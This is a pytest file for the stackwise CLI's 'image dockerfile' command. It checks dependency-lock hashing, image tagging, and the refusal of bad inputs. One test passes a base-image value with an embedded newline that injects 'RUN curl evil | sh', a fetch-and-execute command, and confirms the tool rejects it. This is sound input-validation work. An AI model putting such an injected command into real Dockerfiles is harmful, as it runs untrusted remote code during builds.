"""`stackwise image dockerfile`: a Dockerfile and a lock of stackwise plus the pipeline's
third-party dependencies, tagged by the lock's hash: the same dependencies give the same tag
whatever the code, a new dependency a new tag."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from typer.testing import CliRunner

from stackwise.cli.main import app, load_commands

load_commands()

PIPELINE = '''
import yaml  # third-party: PyYAML
import helpers  # the project's own module
import os.path

import stackwise as sw


@sw.step
def one() -> int:
    return helpers.VALUE


@sw.pipeline
def built() -> None:
    one()
'''


def _image(project: Path, *extra: str) -> dict[str, object]:
    result = CliRunner().invoke(app, ["image", "dockerfile", "flows.py:built", "--out", "img",
                                      "--repository", "registry.example.com/ml/base", "--json",
                                      *extra])  # fmt: skip
    assert result.exit_code == 0, result.output
    data: dict[str, object] = json.loads(result.stdout)
    return data


def test_the_lock_holds_stackwise_kfp_and_the_pipelines_imports(project: Path) -> None:
    (project / "helpers.py").write_text("VALUE = 1\n")
    (project / "flows.py").write_text(PIPELINE)
    data = _image(project)
    lock = (project / "img" / "requirements.lock").read_text()
    pins = [line for line in lock.splitlines() if not line.startswith("#")]
    names = {line.split("==")[0] for line in pins}
    assert {"stackwise", "kfp", "pyyaml", "mlflow", "pydantic"} <= names
    assert "helpers" not in names and "hypothesis" not in names  # not imported here
    assert all("==" in line for line in pins)
    sha = hashlib.sha256(lock.encode()).hexdigest()
    assert data["sha256"] == sha and data["image"] == f"registry.example.com/ml/base:{sha}"
    dockerfile = (project / "img" / "Dockerfile").read_text()
    assert dockerfile.splitlines()[3] == "FROM python:3.11-slim"
    assert f'LABEL dev.stackwise.lock-sha256="{sha}"' in dockerfile
    assert f'ENV STACKWISE_IMAGE="registry.example.com/ml/base:{sha}"' in dockerfile
    assert '"--no-deps", "-r", \\\n     "/opt/stackwise/requirements.lock"]' in dockerfile

    # A code change keeps the tag (no rebuild); a new third-party import changes it.
    (project / "helpers.py").write_text("VALUE = 2  # edited\n")
    assert _image(project)["image"] == data["image"]
    (project / "flows.py").write_text(PIPELINE.replace("import os.path", "import hypothesis"))
    changed = _image(project)
    assert changed["image"] != data["image"]
    assert "hypothesis" in {r.split("==")[0] for r in changed["requirements"]}  # type: ignore[attr-defined]


def test_an_import_nothing_provides_is_refused(project: Path) -> None:
    (project / "helpers.py").write_text("VALUE = 1\n")
    (project / "flows.py").write_text(PIPELINE)
    (project / "scripts").mkdir()  # a project file the pipeline does not load
    (project / "scripts" / "tool.py").write_text("import not_installed_x\n")
    result = CliRunner().invoke(app, ["image", "dockerfile", "flows.py:built", "--out", "img"])
    assert result.exit_code == 2
    message = " ".join(result.stderr.split())
    assert "scripts/tool.py imports 'not_installed_x', which no installed distribution" in message
    assert not (project / "img").exists()


def test_a_bad_base_image_is_refused(project: Path) -> None:
    (project / "helpers.py").write_text("VALUE = 1\n")
    (project / "flows.py").write_text(PIPELINE)
    result = CliRunner().invoke(app, ["image", "dockerfile", "flows.py:built", "--base",
                                      'python:3.11\nRUN curl evil | sh'])  # fmt: skip
    assert result.exit_code == 2 and "is not a valid image reference" in result.stderr
    assert not (project / "image").exists()
